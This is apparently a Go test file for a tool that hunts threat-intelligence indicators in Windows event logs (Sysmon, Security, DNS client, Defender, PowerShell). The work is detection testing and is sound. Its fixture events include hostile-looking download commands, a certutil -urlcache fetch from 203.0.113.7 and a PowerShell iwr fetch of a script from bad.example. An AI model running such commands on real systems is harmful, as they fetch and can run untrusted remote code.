package engine

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"

	"github.com/Velocidex/ordereddict"
)

// windowsLogs are the real logs of Windows beside Sysmon's.
func (s *EngineSuite) windowsLogs() []string {
	logs, err := filepath.Glob(sample(s.T(), "evtx-windows/*.evtx"))
	s.Require().NoError(err)
	s.Require().Len(logs, 8)
	return logs
}

// windowsFeed is a feed of every URL that the real logs of Windows have.
func (s *EngineSuite) windowsFeed() string {
	var indicators [][2]string
	for _, row := range s.readTable("evtx-windows/known-values.csv") {
		indicators = append(indicators, [2]string{"url", row["url"]})
	}
	return s.normalize(s.writeExport(indicators))
}

// The list was counted without VQL and without the helper.
func (s *EngineSuite) TestBothHuntsFindEveryKnownValueOfTheWindowsLogsAsOftenAsItIsThere() {
	want := map[string]string{}
	for _, row := range s.readTable("evtx-windows/known-values.csv") {
		want[row["file"]+" "+row["event_id"]+" "+row["url"]] = row["count"]
	}
	s.Greater(len(want), 7)
	feed, logs := s.windowsFeed(), sample(s.T(), "evtx-windows/*.evtx")
	vql := s.hunt(feed, logs, nil)
	for name, result := range map[string]collection{"VQL": vql, "Native": s.native(s.helper(), feed, logs, nil)} {
		counts := map[string]int{}
		for _, hit := range s.hits(result) {
			counts[fmt.Sprint(filepath.Base(hit["LogFile"].(string)), " ", hit["EventID"], " ", hit["IOC"])]++
			s.Contains([]any{"url", "command line url", "script url"}, hit["Match"])
		}
		got := map[string]string{}
		for value, count := range counts {
			got[value] = fmt.Sprint(count)
		}
		s.Equal(want, got, name)
		s.NotContains(result.logs, "did not read", name)
		s.ElementsMatch(strings.Split(vql.source["Hits"], "\n"), strings.Split(result.source["Hits"], "\n"), name)
		s.Equal(s.coverage(vql), s.coverage(result), name)
	}
}

func (s *EngineSuite) TestScanGivesEachEventOfTheWindowsLogsAsParseEvtxDoes() {
	for _, log := range s.windowsLogs() {
		if strings.Contains(log, "defender") {
			continue // parse_evtx loses what follows a reference (&amp;) in a collector's event; the helper does not
		}
		events := s.scan(log)
		want := s.query(`SELECT * FROM parse_evtx(filename=Log)
WHERE System.Provider.Name =~ "^(Microsoft-Windows-(Sysmon|Security-Auditing|PowerShell|Bits-Client|Windows Defender))$"`, ordereddict.NewDict().Set("Log", log))
		got := s.query(`SELECT * FROM parse_jsonl(filename=Events)`, ordereddict.NewDict().Set("Events", events))
		got = strings.ReplaceAll(got, `,"LogFile":`+quoted(log), "")
		s.Equal(strings.ReplaceAll(want, `,"Message":""`, ""), got, log)
	}
}

// No log holds a real indicator: what a real export hits is looked at by hand, and stands in the list with its reason.
func (s *EngineSuite) TestTheRealExportsHitNothingInTheRealLogsButWhatWasReviewed() {
	reviewed := map[string]string{}
	for _, row := range s.readTable("evtx-windows/reviewed-hits.csv") {
		s.NotEmpty(row["why"])
		reviewed[row["log"]+" "+row["ioc"]] = row["why"]
	}
	var logs []string
	for _, glob := range []string{"evtx-windows/*.evtx", "evtx/otrf-*.evtx", "evtx/sysmon*.evtx"} {
		found, err := filepath.Glob(sample(s.T(), glob))
		s.Require().NoError(err)
		logs = append(logs, found...)
	}
	s.Len(logs, 13)
	exports, err := filepath.Glob(sample(s.T(), "threatfox/*-20*"))
	s.Require().NoError(err)
	s.Len(exports, 3)
	for _, export := range exports {
		feed := s.normalize(export)
		for _, glob := range []string{"evtx-windows/*.evtx", "evtx/otrf-*.evtx", "evtx/sysmon*.evtx"} {
			got := s.huntThatMayFail(feed, sample(s.T(), glob), map[string]string{"MinStrength": "medium", "MaxFeedAge": "0"})
			s.Empty(got.failed)
			for _, hit := range s.hits(got) {
				s.Contains(reviewed, fmt.Sprint(filepath.Base(hit["LogFile"].(string)), " ", hit["IOC"]))
			}
		}
	}
}

// securityEvents are connections as Windows Filtering Platform logs them, and a process.
const securityEvents = `{"EventID": 5156, "EventData": {"ProcessID": "820", "Application": "\\device\\harddiskvolume1\\evil.exe", "Direction": "%%14593", "SourceAddress": "10.0.0.1", "SourcePort": "50000", "DestAddress": "203.0.113.7", "DestPort": "4443", "Protocol": "6"}}
{"EventID": 5156, "EventData": {"ProcessID": "820", "Application": "\\device\\harddiskvolume1\\evil.exe", "Direction": "%%14592", "SourceAddress": "10.0.0.1", "SourcePort": "445", "DestAddress": "203.0.113.7", "DestPort": "50001", "Protocol": "6"}}
{"EventID": 5156, "EventData": {"ProcessID": "820", "Application": "System", "Direction": "%%99999", "SourceAddress": "::1", "SourcePort": "1", "DestAddress": "2001:DB8:0:0:7:0:0:53", "DestPort": "53", "Protocol": "17"}}
{"EventID": 5156, "EventData": {"ProcessID": "820", "Application": "System", "Direction": null, "SourceAddress": "::1", "SourcePort": "1", "DestAddress": "::ffff:203.0.113.7", "DestPort": "4443", "Protocol": "6"}}
{"EventID": 5156, "EventData": {"ProcessID": "820", "Application": "System", "Direction": "%%14593", "SourceAddress": "203.0.113.7", "SourcePort": "4443", "DestAddress": "198.51.100.9", "DestPort": "4443", "Protocol": "6"}}
{"EventID": 5157, "EventData": {"ProcessID": "820", "Application": "System", "Direction": "%%14593", "SourceAddress": "10.0.0.1", "SourcePort": "1", "DestAddress": "203.0.113.7", "DestPort": "4443", "Protocol": "6"}}
{"EventID": 4688, "EventData": {"SubjectUserName": "ann", "SubjectDomainName": "CORP", "NewProcessId": "0x1fc", "NewProcessName": "C:\\Windows\\System32\\certutil.exe", "ProcessId": "0x278", "CommandLine": "certutil -urlcache http://203.0.113.7:4443/a x"}}
`

// logOf makes a log of a provider's events, in a layout.
func (s *EngineSuite) logOf(tool, provider, channel, events string) string {
	head := fmt.Sprintf(`{"Provider": %q, "Channel": %q, `, provider, channel)
	path := filepath.Join(s.tempDir(), "events.jsonl")
	s.Require().NoError(os.WriteFile(path, []byte(strings.ReplaceAll("\n"+events, "\n{", "\n"+head)), 0o600))
	return s.makeLog(tool, path)
}

func (s *EngineSuite) TestConnectionsAndProcessesOfSecurityAuditingAreReadInBothDirectionsAndLayouts() {
	feed := s.normalize(s.writeExport([][2]string{{"ip:port", "203.0.113.7:4443"}, {"ipv6", "2001:db8::7:0:0:53"}}))
	for _, tool := range []string{"make_evtx.py", "make_wec.py"} {
		log := s.logOf(tool, "Microsoft-Windows-Security-Auditing", "Security", securityEvents)
		vql, native := s.hunt(feed, log, nil), s.native(s.helper(), feed, log, nil)
		s.Equal(vql.source["Hits"], native.source["Hits"], tool)
		var got []string
		for _, hit := range s.hits(vql) {
			got = append(got, fmt.Sprint(hit["RecordID"], " ", hit["Match"], " ", hit["Strength"], " ", hit["Direction"], " ", hit["SrcIP"], ":", hit["SrcPort"],
				" ", hit["DstIP"], ":", hit["DstPort"], " ", hit["Image"], " ", hit["ProcessId"], " ", hit["User"]))
		}
		s.Equal([]string{
			`1 ip:port strong outbound 10.0.0.1:50000 203.0.113.7:4443 \device\harddiskvolume1\evil.exe 820 <nil>`,
			`2 inbound medium inbound 203.0.113.7:50001 10.0.0.1:445 \device\harddiskvolume1\evil.exe 820 <nil>`,
			`3 ip medium outbound ::1:1 2001:DB8:0:0:7:0:0:53:53 System 820 <nil>`,
			`4 ip:port strong outbound ::1:1 ::ffff:203.0.113.7:4443 System 820 <nil>`,
			`7 command line ip:port medium <nil> <nil>:<nil> <nil>:<nil> C:\Windows\System32\certutil.exe 0x1fc CORP\ann`,
		}, got, tool)
		s.Contains(vql.source["Coverage"], `"Connections":5`)
	}
}

func (s *EngineSuite) TestTheDNSClientsLogAndDefendersAreRead() {
	feed := s.normalize(s.writeExport([][2]string{{"ip:port", "203.0.113.7:4443"}, {"domain", "evil.example"}, {"url", "https://bad.example/a.zip"}}))
	dns := s.logOf("make_evtx.py", "Microsoft-Windows-DNS-Client", "Microsoft-Windows-DNS-Client/Operational",
		`{"EventID": 3006, "EventData": {"QueryName": "x.evil.example", "QueryType": "1"}}
{"EventID": 3008, "EventData": {"QueryName": "a.example", "QueryType": "1", "QueryStatus": "0", "QueryResults": "type:  5 evil.example;::ffff:203.0.113.7;"}}
{"EventID": 3020, "EventData": {"QueryName": "b.example", "Status": "0", "QueryResults": "203.0.113.7;"}}
{"EventID": 3009, "EventData": {"QueryName": "evil.example"}}
`)
	defender := s.logOf("make_wec.py", "Microsoft-Windows-Windows Defender", "Microsoft-Windows-Windows Defender/Operational",
		`{"EventID": 1116, "EventData": {"Process Name": "C:\\evil.example\\x.exe", "Detection User": "CORP\\ann", "Path": "file:_C:\\evil.example\\a.zip; webfile:_C:\\a.zip|https://bad.example/a.zip|pid:1,ProcessStart:1"}}
{"EventID": 1117, "EventData": {"Path": "file:_C:\\a.zip"}}
`)
	var got []string
	for _, log := range []string{dns, defender} {
		vql := s.hunt(feed, log, nil)
		s.Equal(vql.source["Hits"], s.native(s.helper(), feed, log, nil).source["Hits"])
		for _, hit := range s.hits(vql) {
			got = append(got, fmt.Sprint(hit["EventID"], " ", hit["Match"], " ", hit["IOC"], " ", hit["QueryName"], " ", hit["ProcessId"], " ", hit["User"], " ", hit["Image"]))
		}
	}
	s.ElementsMatch([]string{
		"3006 subdomain evil.example x.evil.example 2812 S-1-5-18 <nil>",
		"3008 dns answer evil.example a.example 2812 S-1-5-18 <nil>",
		"3008 dns answer 203.0.113.7:4443 a.example 2812 S-1-5-18 <nil>",
		"3020 dns answer 203.0.113.7:4443 b.example 2812 S-1-5-18 <nil>",
		`1116 url https://bad.example/a.zip <nil> <nil> CORP\ann C:\evil.example\x.exe`,
	}, got)
}

// The log is under GPL: it is read where somebody has it, and stands nowhere in the project.
func (s *EngineSuite) TestARealLogOfConnectionsGivesAHitForEachEventOfAnAddress() {
	path := os.Getenv("SECURITY_5156_EVTX")
	if path == "" {
		s.T().Skip("SECURITY_5156_EVTX names no log: tests/data/evtx-windows/SOURCES.md")
	}
	log, err := os.ReadFile(path)
	s.Require().NoError(err)
	// Its addresses are private, which never hit: those of one network become public ones.
	log = bytes.ReplaceAll(log, wide("10.0.2."), wide("11.0.2."))
	public := filepath.Join(s.tempDir(), "security.evtx")
	s.Require().NoError(os.WriteFile(public, log, 0o600))

	feed := s.normalize(s.writeExport([][2]string{{"ip:port", "11.0.2.15:3389"}, {"ip:port", "11.0.2.18:1"}}))
	vql := s.hunt(feed, public, nil)
	counts := map[string]int{}
	for _, hit := range s.hits(vql) {
		counts[fmt.Sprint(hit["EventID"], " ", hit["Observable"])]++
	}
	s.Equal(map[string]int{"5156 11.0.2.15": 19, "5156 11.0.2.18": 5}, counts)
	s.Contains(vql.source["Coverage"], `"4688":17`)
	s.Contains(vql.source["Coverage"], `"5156":63`)
	s.Equal(vql.source["Hits"], s.native(s.helper(), feed, public, nil).source["Hits"])
}

// logFolder is a folder of logs as a host has them: one with events, one without, one that is not a log; the others are missing.
func (s *EngineSuite) logFolder() string {
	folder := s.tempDir()
	put := func(name string, text []byte) {
		s.Require().NoError(os.WriteFile(filepath.Join(folder, name), text, 0o600))
	}
	bits, err := os.ReadFile(sample(s.T(), "evtx-windows/bits-3-59-60.evtx"))
	s.Require().NoError(err)
	sysmon, err := os.ReadFile(s.edgeLog())
	s.Require().NoError(err)
	put("Microsoft-Windows-Bits-Client%4Operational.evtx", bits)
	put("Microsoft-Windows-Sysmon%4Operational.evtx", sysmon)
	put("Microsoft-Windows-DNS-Client%4Operational.evtx", bits[:4096])
	put("Microsoft-Windows-PowerShell%4Operational.evtx", []byte("nothing"))
	process, err := os.ReadFile(sample(s.T(), "evtx-windows/security-4688-certutil.evtx"))
	s.Require().NoError(err)
	put("Security.evtx", process)
	return folder
}

func (s *EngineSuite) TestTheLogsAskedForAreSearchedAndCoverageSaysWhatIsKnownOfEach() {
	folder, feed := s.logFolder(), s.windowsFeed()
	read := func(more map[string]string) (found map[string]string) {
		more["LogFolder"], more["EvtxGlob"] = folder, ""
		vql, native := s.huntThatMayFail(feed, "", more), s.native(s.helper(), feed, "", more)
		s.ElementsMatch(strings.Split(vql.source["Hits"], "\n"), strings.Split(native.source["Hits"], "\n"))
		s.Equal(s.coverage(vql), s.coverage(native))
		found = map[string]string{}
		for _, row := range s.rowsOf(vql.source["Coverage"]) {
			found[fmt.Sprint(row["Place"])] += fmt.Sprint(row["Status"])
		}
		for _, hit := range s.hits(vql) {
			found[fmt.Sprint("hit ", hit["Place"])] = "yes"
		}
		return found
	}
	found := read(map[string]string{})
	s.Equal("searched", found["Microsoft-Windows-Sysmon"])
	s.Equal("searched", found["Microsoft-Windows-Bits-Client"])
	s.Equal("not logged: no event of the rules; to log them: wevtutil sl Microsoft-Windows-DNS-Client/Operational /e:true", found["Microsoft-Windows-DNS-Client"])
	s.Equal("no rights, or not an event log: it cannot be read", found["Microsoft-Windows-PowerShell"])
	s.Equal("not there", found["Microsoft-Windows-Windows Defender"])
	s.NotContains(found, "Microsoft-Windows-Security-Auditing", "it is large: only if asked for")
	s.Equal("yes", found["hit Microsoft-Windows-Bits-Client 59"])

	found = read(map[string]string{"Logs": `["Security"]`})
	s.Len(found, 2)
	s.Regexp(regexp.MustCompile(`^searched, but Security does not log connections \(event 5156\); to log them: auditpol /set `), found["Microsoft-Windows-Security-Auditing"])
	s.Equal("yes", found["hit Microsoft-Windows-Security-Auditing 4688"])

	found = read(map[string]string{"Logs": `["DNS-Client", "Security", "Sysmon"]`, "DateAfter": "2100-01-01T00:00:00Z"})
	s.Contains(found["Microsoft-Windows-Sysmon"], "no event of the rules")
}

// scriptBlock are the events of a script block in so many parts of so many letters; between part n and n+1 is cut what cuts has for n. A missing part
// has no event.
func scriptBlock(id string, parts, letters int, cuts map[int][2]string, missing int) string {
	var events strings.Builder
	begins := ""
	for n := 1; n <= parts; n++ {
		text := begins + " " + strings.Repeat("Write-Host x;\n", letters/14) + cuts[n][0]
		begins = cuts[n][1]
		if n != missing {
			fmt.Fprintf(&events, `{"EventID": 4104, "EventRecordID": %d, "EventData": {"MessageNumber": "%d", "MessageTotal": "%d", "ScriptBlockText": %s, "ScriptBlockId": %q, "Path": "C:\\a.ps1"}}`+"\n",
				n, n, parts, quoted(text), id)
		}
	}
	return events.String()
}

func (s *EngineSuite) TestAnIndicatorAcrossTheCutOfAScriptBlockIsFoundAndAMissingPartHidesNoOther() {
	feed := s.normalize(s.writeExport([][2]string{{"url", "http://bad.example/a/b.ps1"}, {"domain", "evil.example"}, {"ip:port", "203.0.113.7:4443"}}))
	cuts := map[int][2]string{2: {"iwr 'http://bad.exa", "mple/a/b.ps1'"}, 4: {"ping ev", "il.example "}, 6: {"x 203.0.1", "13.7:4443"}, 7: {" whole.evil.example ", ""}}
	events := scriptBlock("ab350588-4aa4-4047-9ecb-9b285c4fa71b", 9, 20000, cuts, 5)
	for tool, threads := range map[string]string{"make_evtx.py": "1", "make_wec.py": "3"} {
		log := s.logOf(tool, "Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", events)
		vql := s.hunt(feed, log, nil)
		var got []string
		for _, hit := range s.hits(vql) {
			got = append(got, fmt.Sprint(hit["RecordID"], " ", hit["Match"], " ", hit["IOC"], " ", hit["TargetFilename"]))
		}
		// Part 5 is missing: what begins in part 4 is not found, and nothing is joined over the gap.
		s.ElementsMatch([]string{`3 script url http://bad.example/a/b.ps1 C:\a.ps1`, `7 script ip:port 203.0.113.7:4443 C:\a.ps1`, `7 script subdomain evil.example C:\a.ps1`}, got, tool)
		s.Equal(vql.source["Hits"], s.native(s.helper(), feed, log, nil).source["Hits"], tool)

		hits := filepath.Join(s.tempDir(), "hits.jsonl")
		s.scan(log, "--feed", feed, "--hits", hits, "--threads", threads)
		s.Equal(3, strings.Count(s.read(hits), "\n"), tool)
	}
}

func (s *EngineSuite) TestAScriptOfTenMegabytesIn400PartsTakesLittleMemory() {
	feed := s.normalize(s.writeExport([][2]string{{"domain", "evil.example"}}))
	cuts := map[int][2]string{399: {"ping ev", "il.example "}}
	log := s.logOf("make_evtx.py", "Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational",
		scriptBlock("ab350588-4aa4-4047-9ecb-9b285c4fa71b", 400, 25000, cuts, 200))
	vql := s.hunt(feed, log, nil)
	s.Len(s.hits(vql), 1)
	s.Equal(vql.source["Hits"], s.native(s.helper(), feed, log, nil).source["Hits"])
}
